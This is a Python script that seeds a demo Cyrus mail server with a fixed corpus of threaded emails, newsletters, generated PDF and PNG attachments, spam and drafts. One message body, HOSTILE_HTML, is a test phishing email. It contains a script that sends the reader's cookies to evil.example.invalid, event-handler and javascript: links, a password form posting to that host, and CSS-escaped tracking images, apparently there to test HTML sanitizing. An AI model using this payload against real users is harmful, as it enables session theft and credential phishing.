#!/usr/bin/env python3
"""Deterministic demo mail for the private Cyrus instance.

DEMO_USERS: alice, bob and carol @example.test with their passwords.
seed(cyrus): creates the users (with INBOX, Drafts, Sent, Trash, Junk,
Archive and their roles), delivers one welcome message to each over LMTP,
then imports the corpus below with JMAP Email/import and runs squatter so
text filters work. Calling it after add_user() for the same users is fine.

Why Email/import for the corpus rather than LMTP: LMTP stamps every message
with the delivery time as receivedAt, so thirty messages "over several days"
would all look received just now, and LMTP cannot set keywords ($seen,
$flagged, $answered, $draft) or file into Sent/Archive/Junk/Drafts.

Everything is fixed: dates, Message-IDs, MIME boundaries, attachment bytes.
Only the welcome message's receivedAt (delivery time) varies between runs.
"""

import concurrent.futures
import datetime
import email.policy
import email.utils
import struct
import zlib
from email.message import EmailMessage

DOMAIN = "example.test"
DEMO_USERS = [
    ("alice@example.test", "alice-demo-pass"),
    ("bob@example.test", "bob-demo-pass"),
    ("carol@example.test", "carol-demo-pass"),
]
PASSWORDS = dict(DEMO_USERS)
BASE = datetime.datetime(2026, 11, 16, tzinfo=datetime.timezone.utc)  # a Monday
UNREAD_FROM_DAY = 7          # mail of the last days stays unread

PEOPLE = {
    "alice": ("Alice Archer", "alice@example.test"),
    "bob": ("Bob Baker", "bob@example.test"),
    "carol": ("Carol Chen", "carol@example.test"),
    "dave": ("Dave Dürr", "dave@example.org"),
    "erin": ("Erin Ellis", "erin@example.com"),
    "frank": ("Frank Fischer", "frank@example.net"),
    "gina": ("Gina Gomez", "gina@lists.example.org"),
    "hugo": ("Hugo Hartmann", "hugo@example.org"),
    "news": ("The Weekly Byte", "news@newsletter.example.com"),
    "digest": ("Systems Digest", "digest@newsletter.example.com"),
    "shop": ("Example Shop", "orders@shop.example.com"),
    "bank": ("Example Bank", "security@bank.example.com"),
    "calendar": ("Calendar", "noreply@calendar.example.org"),
    "helpdesk": ("IT Helpdesk", "it-helpdesk@example.test"),
    "hr": ("People Team", "hr@example.test"),
    "ci": ("CI", "ci@builds.example.org"),
    "spam": ("Lucky Winner Dept", "winner@prizes.example.net"),
    "postmaster": ("Postmaster", "postmaster@example.test"),
    "list": ("dev list", "dev@lists.example.org"),
}
DEMO = {"alice", "bob", "carol"}


# --------------------------------------------------------------------------
# Small valid attachments, generated so no binary file is needed


def make_png(width=48, height=32):
    """A small RGB gradient PNG (valid: signature, IHDR, IDAT, IEND, CRCs)."""
    rows = []
    for y in range(height):
        row = bytearray([0])  # filter type: none
        for x in range(width):
            row += bytes((x * 255 // (width - 1), y * 255 // (height - 1), 160))
        rows.append(bytes(row))

    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"".join(rows), 9)) + chunk(b"IEND", b""))


def make_pdf(lines):
    """A one-page PDF with Helvetica text and a correct xref table."""
    text = b" ".join(b"(%s) Tj 0 -28 Td" % line.encode("latin-1") for line in lines)
    content = b"BT /F1 20 Tf 72 720 Td " + text + b" ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


# --------------------------------------------------------------------------
# HTML bodies


HOSTILE_HTML = """<html><head>
<style>body { font-family: sans-serif; } .warn { color: #b00; }</style>
<script>document.location = 'http://evil.example.invalid/steal?c=' + document.cookie;</script>
</head><body>
<h1 class="warn">Your account needs attention</h1>
<p>Hello, we noticed an unusual sign-in. Please confirm your details below.</p>
<img src="http://images.example.invalid/x.png" width="600" height="80" alt="Example Bank">
<img src="cid:does-not-exist" onerror="alert('onerror handler ran')" alt="">
<p><a href="javascript:alert('link ran')">Confirm now</a> or
<a href="http://evil.example.invalid/login">sign in here</a>.</p>
<form action="http://evil.example.invalid/login" method="post">
<input name="password" type="password"><button>Verify</button></form>
<iframe src="http://evil.example.invalid/frame"></iframe>
<video src="/api/image?url=http%3A%2F%2Fimages.example.invalid%2Fvideo.png"></video>
<svg width="10" height="10"><image href="/api/image?url=http%3A%2F%2Fimages.example.invalid%2Fsvg.png"/></svg>
<p style="background: \\75rl(/api/image?url=http%3A%2F%2Fimages.example.invalid%2Fcss.png)">Thank you.</p>
</body></html>
"""


def newsletter_html(title, items):
    lis = "\n".join(f"<li><b>{head}</b> &mdash; {text}</li>" for head, text in items)
    return f"""<html><body style="font-family: Georgia, serif; max-width: 640px">
<h1 style="color: #235">{title}</h1>
<p>Hello reader, here is what happened this week.</p>
<ul>
{lis}
</ul>
<p style="font-size: small; color: #777">You receive this because you subscribed.
<a href="https://newsletter.example.com/unsubscribe">Unsubscribe</a></p>
</body></html>
"""


def newsletter_text(title, items):
    body = "\n".join(f"* {head}: {text}" for head, text in items)
    return f"{title}\n\nHello reader, here is what happened this week.\n\n{body}\n\nUnsubscribe: https://newsletter.example.com/unsubscribe\n"


# --------------------------------------------------------------------------
# The corpus


class Mail:
    """One message of the corpus and where copies of it go."""

    def __init__(self, key, day, hhmm, sender, to, subject, text, cc=(), reply_to=None,
                 html=None, html_only=False, attach=(), rcpt=None, folder=None,
                 flagged=(), unread=(), draft=False):
        self.key = key
        self.date = BASE + datetime.timedelta(days=day, hours=int(hhmm[:2]), minutes=int(hhmm[3:]))
        self.day = day
        self.sender = sender
        self.to = list(to)
        self.cc = list(cc)
        self.subject = subject
        self.text = text
        self.reply_to = reply_to
        self.html = html
        self.html_only = html_only
        self.attach = list(attach)
        # Envelope recipients among the demo users (a list post names the list).
        self.rcpt = [p for p in (rcpt if rcpt is not None else self.to + self.cc) if p in DEMO]
        self.folder = folder            # role for recipients' copies; default inbox
        self.flagged = set(flagged)     # demo users whose copy is $flagged
        self.unread = set(unread)       # demo users whose copy stays unread
        self.draft = draft              # a draft of the sender, not sent
        self.message_id = f"<demo-{key}@{PEOPLE[sender][1].split('@')[1]}>"
        self.references = []


def _corpus():
    pdf_roadmap = make_pdf(["Q4 roadmap", "1. Offline mode", "2. Faster search", "3. Calendar"])
    pdf_invoice = make_pdf(["Invoice 2026-118", "Consulting, 12 h", "Total: EUR 1,440.00"])
    pdf_contract = make_pdf(["Service agreement (draft)", "Between Example Corp", "and Bob Baker"])
    png = make_png()
    M = Mail
    return [
        # --- shared by alice and bob -------------------------------------------------
        M("roadmap-1", 0, "09:12", "bob", ["alice"], "Q4 roadmap review",
          "Hello Alice,\n\ncould you have a look at the Q4 roadmap before Wednesday?\n"
          "Carol already added the calendar items. The main open question is\n"
          "whether offline mode fits in this quarter.\n\nThanks,\nBob\n", cc=["carol"]),
        M("roadmap-2", 0, "10:05", "alice", ["bob"], "Re: Q4 roadmap review",
          "Hi Bob,\n\nI read it. Offline mode is a stretch; I would move it to Q1\n"
          "and keep faster search. Let's discuss on Wednesday.\n\nAlice\n",
          cc=["carol"], reply_to="roadmap-1"),
        M("roadmap-3", 1, "08:47", "bob", ["alice"], "Re: Q4 roadmap review",
          "Fair point. Attached is the updated version with offline mode moved\n"
          "to Q1. Please check page 1.\n\nBob\n", cc=["carol"], reply_to="roadmap-2",
          attach=[("q4-roadmap.pdf", "application", "pdf", pdf_roadmap)], flagged={"alice"}),
        M("roadmap-4", 1, "11:30", "carol", ["alice", "bob"], "Re: Q4 roadmap review",
          "Looks good to me. I will update the calendar section accordingly.\n\nCarol\n",
          reply_to="roadmap-3"),
        M("lunch-1", 2, "12:01", "alice", ["bob"], "Lunch on Thursday?",
          "Hello Bob,\n\nlunch on Thursday at the new noodle place? 12:30?\n\nAlice\n"),
        M("lunch-2", 2, "12:20", "bob", ["alice"], "Re: Lunch on Thursday?",
          "Sure, 12:30 works. Shall I ask Carol too?\n\nBob\n", reply_to="lunch-1"),
        M("lunch-3", 2, "12:25", "alice", ["bob"], "Re: Lunch on Thursday?",
          "Yes please, the more the merrier.\n", reply_to="lunch-2"),
        M("bug-1", 3, "14:10", "bob", ["alice"], "Screenshot of the login bug",
          "Hi Alice,\n\nhere is the screenshot of the login page glitch I mentioned.\n"
          "It only happens after a wrong password.\n\nBob\n",
          attach=[("login-bug.png", "image", "png", png)]),
        M("bug-2", 3, "15:02", "alice", ["bob"], "Re: Screenshot of the login bug",
          "Thanks, I can reproduce it. Fix is on the way.\n\nAlice\n", reply_to="bug-1"),
        M("hostile", 4, "06:13", "bank", ["alice", "bob"], "Action required: verify your account",
          "", html=HOSTILE_HTML, html_only=True, unread={"alice", "bob"}),
        M("maintenance", 4, "09:00", "helpdesk", ["alice", "bob"], "Planned maintenance on Saturday",
          "Hello everyone,\n\nthe mail server will be down for maintenance on Saturday\n"
          "from 08:00 to 10:00 UTC. No action is needed.\n\nIT Helpdesk\n"),
        M("dev-1", 5, "10:00", "gina", ["list"], "[dev] Release 2.4 checklist",
          "Hi all,\n\nhere is the checklist for 2.4:\n- update translations\n- run the full test suite\n"
          "- write the changelog\n\nGina\n", rcpt=["alice", "bob"]),
        M("dev-2", 5, "10:42", "hugo", ["list"], "Re: [dev] Release 2.4 checklist",
          "I can take the translations.\n\nHugo\n", reply_to="dev-1", rcpt=["alice", "bob"]),
        M("dev-3", 5, "13:15", "bob", ["list"], "Re: [dev] Release 2.4 checklist",
          "I will run the test suite tonight and report back.\n\nBob\n",
          reply_to="dev-2", rcpt=["alice"]),
        M("dev-4", 6, "08:05", "gina", ["list"], "Re: [dev] Release 2.4 checklist",
          "Thanks both. Changelog draft is in the wiki.\n\nGina\n",
          reply_to="dev-3", rcpt=["alice", "bob"]),
        M("dev-5", 7, "09:30", "hugo", ["list"], "Re: [dev] Release 2.4 checklist",
          "Translations are done, 14 languages updated.\n\nHugo\n",
          reply_to="dev-4", rcpt=["alice", "bob"]),
        M("holidays", 8, "16:00", "hr", ["alice", "bob", "carol"], "Holiday schedule for December",
          "Hello team,\n\nthe office is closed from December 24 to January 1.\n\nPeople Team\n",
          html="<html><body><p>Hello team,</p><p>the office is <b>closed</b> from "
               "<i>December 24</i> to <i>January 1</i>.</p><p>People Team</p></body></html>"),
        # --- alice only ------------------------------------------------------------
        M("byte-112", 0, "07:30", "news", ["alice"], "The Weekly Byte #112",
          newsletter_text("The Weekly Byte #112", [("Compilers", "a new register allocator"),
                                                   ("Databases", "why your index is not used")]),
          html=newsletter_html("The Weekly Byte #112", [("Compilers", "a new register allocator"),
                                                        ("Databases", "why your index is not used")])),
        M("archive-tax", 0, "08:15", "erin", ["alice"], "Tax documents 2025",
          "Hello Alice,\n\nyour tax documents for 2025 are ready for collection.\n\nErin\n",
          folder="archive"),
        M("shipped", 1, "16:45", "shop", ["alice"], "Your order #4471 has shipped",
          "Your order #4471 (1 x mechanical keyboard) has shipped.\nTracking: EX123456789\n",
          html="<html><body><h2>Good news!</h2><p>Your order <b>#4471</b> "
               "(1 &times; mechanical keyboard) has shipped.</p>"
               "<table border=1><tr><th>Carrier</th><td>Example Post</td></tr>"
               "<tr><th>Tracking</th><td>EX123456789</td></tr></table></body></html>"),
        M("invoice", 2, "09:20", "erin", ["alice"], "Invoice 2026-118",
          "Dear Alice,\n\nplease find attached invoice 2026-118 for November.\n"
          "Payment is due within 30 days.\n\nKind regards,\nErin Ellis\n",
          attach=[("invoice-2026-118.pdf", "application", "pdf", pdf_invoice)],
          flagged={"alice"}, unread={"alice"}),
        M("dentist", 3, "07:00", "calendar", ["alice"], "Reminder: dentist appointment tomorrow 10:00",
          "Reminder: Dentist, Thursday 10:00-10:45, Main Street 5.\n"),
        M("zurich-1", 4, "18:22", "dave", ["alice"], "Hello from Zürich",
          "Hello Alice,\n\ngreetings from Zürich! The conference is great, the café\n"
          "next to the venue serves the best croissants. Talk slides: ready.\n\n"
          "Grüße,\nDave\n", flagged={"alice"}),
        M("zurich-2", 4, "20:01", "alice", ["dave"], "Re: Hello from Zürich",
          "Hi Dave,\n\nenjoy! Bring some chocolate back please.\n\nAlice\n", reply_to="zurich-1"),
        M("zurich-3", 5, "07:45", "dave", ["alice"], "Re: Hello from Zürich",
          "Will do. Two bars, dark.\n\nDave\n", reply_to="zurich-2"),
        M("spam-a", 5, "03:33", "spam", ["alice"], "You have WON a prize!!!",
          "Congratulations! Click the link to claim your prize. Offer valid today only.\n",
          folder="junk"),
        M("offsite", 6, "17:10", "frank", ["alice"], "Notes from the offsite",
          "Hello Alice,\n\n" + "\n\n".join([
              "Here are my notes from the offsite. We spent the morning on hiring: two "
              "backend roles and one designer, to be opened in January.",
              "In the afternoon we reviewed the incident from October. The action items "
              "are better alerting, a runbook for the mail gateway, and a game day in Q1.",
              "Finally, the budget: travel is frozen until February, but conference "
              "tickets that are already booked stay.",
          ]) + "\n\nFrank\n"),
        M("nosubject", 6, "17:12", "frank", ["alice"], "",
          "Forgot the subject, sorry. The photos from the offsite are on the shared drive.\n"),
        M("byte-113", 7, "07:30", "news", ["alice"], "The Weekly Byte #113",
          newsletter_text("The Weekly Byte #113", [("Networking", "QUIC in practice"),
                                                   ("Security", "hello, passkeys")]),
          html=newsletter_html("The Weekly Byte #113", [("Networking", "QUIC in practice"),
                                                        ("Security", "hello, passkeys")])),
        M("draft-a", 8, "19:00", "alice", ["bob"], "Notes for Friday",
          "- roadmap sign-off\n- lunch budget\n- login bug status\n", draft=True),
        M("offsite-late", 9, "08:30", "frank", ["alice"], "Re: Notes from the offsite",
          "One more thing: the game day is now planned for January 20.\n", reply_to="offsite"),
        # --- bob only --------------------------------------------------------------
        M("apartment", 0, "08:00", "hugo", ["bob"], "Apartment lease renewal",
          "Hello Bob,\n\nthe lease renewal is signed; a copy is on its way by post.\n\nHugo\n",
          folder="archive"),
        M("digest-41", 1, "06:00", "digest", ["bob"], "Systems Digest #41",
          newsletter_text("Systems Digest #41", [("Kernel", "io_uring tips"),
                                                 ("C", "hello, C23 features")]),
          html=newsletter_html("Systems Digest #41", [("Kernel", "io_uring tips"),
                                                      ("C", "hello, C23 features")])),
        M("statement", 2, "08:00", "bank", ["bob"], "Your monthly statement is available",
          "Dear customer,\n\nyour statement for November is available in online banking.\n"),
        M("contract-1", 3, "10:10", "erin", ["bob"], "Contract draft",
          "Hi Bob,\n\nattached is the draft service agreement. Please review section 4.\n\nErin\n",
          attach=[("service-agreement.pdf", "application", "pdf", pdf_contract)], flagged={"bob"}),
        M("contract-2", 3, "11:00", "bob", ["erin"], "Re: Contract draft",
          "Hello Erin,\n\nsection 4 looks fine; one typo on page 2. Otherwise agreed.\n\nBob\n",
          reply_to="contract-1"),
        M("contract-3", 4, "09:05", "erin", ["bob"], "Re: Contract draft",
          "Fixed, thank you. I will send the final version for signature.\n\nErin\n",
          reply_to="contract-2"),
        M("ci-fail", 5, "14:02", "ci", ["bob"], "Build failed: main #1289",
          "Build #1289 of main failed.\n\nFailed test: test_login_retry\nCommit: 3f2a91c\n"),
        M("ci-fixed", 5, "15:40", "ci", ["bob"], "Build fixed: main #1290",
          "Build #1290 of main passed. All 412 tests green.\n"),
        M("hike-1", 6, "19:30", "frank", ["bob"], "Photos from the hike",
          "Hello Bob,\n\none photo from Sunday's hike, the rest follow.\n\nFrank\n",
          attach=[("ridge.png", "image", "png", png)]),
        M("hike-2", 6, "21:00", "bob", ["frank"], "Re: Photos from the hike",
          "Great shot! Send the others when you can.\n\nBob\n", reply_to="hike-1"),
        M("spam-b", 7, "02:10", "spam", ["bob"], "Cheap watches, 90% off",
          "Best replica watches. Limited stock, order now.\n", folder="junk"),
        M("digest-42", 8, "06:00", "digest", ["bob"], "Systems Digest #42",
          newsletter_text("Systems Digest #42", [("Storage", "fsync, again"),
                                                 ("Tools", "debugging with rr")]),
          html=newsletter_html("Systems Digest #42", [("Storage", "fsync, again"),
                                                      ("Tools", "debugging with rr")])),
        M("draft-b", 9, "18:00", "bob", ["frank"], "Packing list for the next hike",
          "- water\n- rain jacket\n- map\n", draft=True),
    ]


def corpus():
    """The corpus with References/In-Reply-To resolved."""
    mails = _corpus()
    by_key = {m.key: m for m in mails}
    for m in mails:
        if m.reply_to:
            parent = by_key[m.reply_to]
            m.references = parent.references + [parent.message_id]
    return mails


# --------------------------------------------------------------------------
# MIME


def _address(who):
    name, addr = PEOPLE[who]
    return email.utils.formataddr((name, addr))


def build_message(m, by_key=None):
    """The RFC 5322 bytes of one Mail (CRLF line ends, fixed boundaries);
    by_key lets a reply quote its parent."""
    msg = EmailMessage()
    msg["From"] = _address(m.sender)
    msg["To"] = ", ".join(_address(p) for p in m.to)
    if m.cc:
        msg["Cc"] = ", ".join(_address(p) for p in m.cc)
    msg["Subject"] = m.subject
    msg["Date"] = email.utils.format_datetime(m.date)
    msg["Message-ID"] = m.message_id
    if m.references:
        msg["In-Reply-To"] = m.references[-1]
        msg["References"] = " ".join(m.references)
    if m.sender == "gina" or "list" in m.to:
        msg["List-Id"] = "Developers <dev.lists.example.org>"
    text = m.text + _quote(m, by_key)
    if m.html_only:
        msg.set_content(m.html, subtype="html")
    else:
        msg.set_content(text)
        if m.html:
            msg.add_alternative(m.html, subtype="html")
    for filename, maintype, subtype, data in m.attach:
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    # The email package picks random boundaries; fix them for determinism.
    for n, part in enumerate(msg.walk()):
        if part.is_multipart():
            part.set_boundary(f"=_postern-demo-{m.key}-{n}")
    return msg.as_bytes(policy=email.policy.SMTP)


def _quote(m, by_key):
    """Quote the parent's text below a reply, as mail clients do."""
    if not m.reply_to or not by_key:
        return ""
    parent = by_key[m.reply_to]
    when = parent.date.strftime("%a, %d %b %Y at %H:%M")
    quoted = "".join(f"> {line}\n" for line in parent.text.rstrip("\n").split("\n"))
    return f"\nOn {when}, {PEOPLE[parent.sender][0]} wrote:\n{quoted}"


def welcome_message(login):
    msg = EmailMessage()
    msg["From"] = _address("postmaster")
    msg["To"] = login
    msg["Subject"] = "Welcome to the postern demo"
    msg["Date"] = email.utils.format_datetime(BASE + datetime.timedelta(days=9, hours=20))
    msg["Message-ID"] = f"<demo-welcome-{login.split('@')[0]}@example.test>"
    msg.set_content(
        f"Hello {login.split('@')[0].capitalize()},\n\n"
        "this account belongs to the postern demo. Its other messages were\n"
        "imported with their original dates; this one arrived over LMTP.\n\n"
        "The postmaster\n")
    return msg.as_bytes(policy=email.policy.SMTP)


# --------------------------------------------------------------------------
# Placement: which account gets which copy, in which folder, with which keywords


def placements(mails):
    """{login: [(Mail, role, keywords)]} for every demo user."""
    answered = {(m.sender, m.reply_to) for m in mails if m.reply_to and not m.draft}
    out = {login: [] for login, _ in DEMO_USERS}
    for m in mails:
        if m.sender in DEMO:
            role = "drafts" if m.draft else "sent"
            keywords = {"$seen": True, "$draft": True} if m.draft else {"$seen": True}
            out[PEOPLE[m.sender][1]].append((m, role, keywords))
        if m.draft:
            continue
        for who in m.rcpt:
            if who == m.sender:
                continue
            keywords = {}
            if m.day < UNREAD_FROM_DAY and who not in m.unread:
                keywords["$seen"] = True
            if who in m.flagged:
                keywords["$flagged"] = True
            if (who, m.key) in answered:
                keywords["$answered"] = True
            out[PEOPLE[who][1]].append((m, m.folder or "inbox", keywords))
    return out


# --------------------------------------------------------------------------
# Seeding


def _mailbox_ids(cyrus, login):
    resp = cyrus.jmap(login, PASSWORDS[login],
                      [["Mailbox/get", {"accountId": login, "properties": ["role"]}, "0"]])
    return {mb["role"]: mb["id"] for mb in resp[0][1]["list"] if mb.get("role")}


def _import(cyrus, login, items, by_key):
    """Upload each message and Email/import it, 20 calls per request."""
    password = PASSWORDS[login]
    boxes = _mailbox_ids(cyrus, login)
    calls = []
    for n, (m, role, keywords) in enumerate(items):
        blob = cyrus.upload(login, password, build_message(m, by_key))
        entry = {"blobId": blob, "mailboxIds": {boxes[role]: True}, "keywords": keywords,
                 "receivedAt": m.date.strftime("%Y-%m-%dT%H:%M:%SZ")}
        calls.append(["Email/import", {"accountId": login, "emails": {m.key: entry}}, str(n)])
    for start in range(0, len(calls), 20):
        for name, result, tag in cyrus.jmap(login, password, calls[start:start + 20]):
            if name != "Email/import" or result.get("notCreated"):
                raise RuntimeError(f"Email/import for {login} failed: {name} {result}")


def seed(cyrus):
    """Create the demo users and fill their mailboxes; returns message counts."""
    mails = corpus()
    by_key = {m.key: m for m in mails}
    plan = placements(mails)
    for login, password in DEMO_USERS:
        cyrus.add_user(login, password)

    def fill(login):
        cyrus.deliver(login, welcome_message(login))
        # Chronological order, so each reply finds its parent's conversation.
        items = sorted(plan[login], key=lambda item: item[0].date)
        _import(cyrus, login, items, by_key)
        return len(items) + 1

    # Accounts do not share locks in Cyrus: filling them at once halves the time.
    logins = [login for login, _ in DEMO_USERS]
    with concurrent.futures.ThreadPoolExecutor(len(logins)) as pool:
        counts = dict(zip(logins, pool.map(fill, logins)))
    cyrus.index()
    return counts


if __name__ == "__main__":
    # Print the placement table, for a look at what seed() would create.
    for login, items in placements(corpus()).items():
        print(f"{login}: {len(items) + 1} messages")
        for m, role, keywords in sorted(items, key=lambda i: i[0].date):
            print(f"  {m.date:%a %d %H:%M} {role:8} {' '.join(sorted(keywords)):28} {m.subject}")
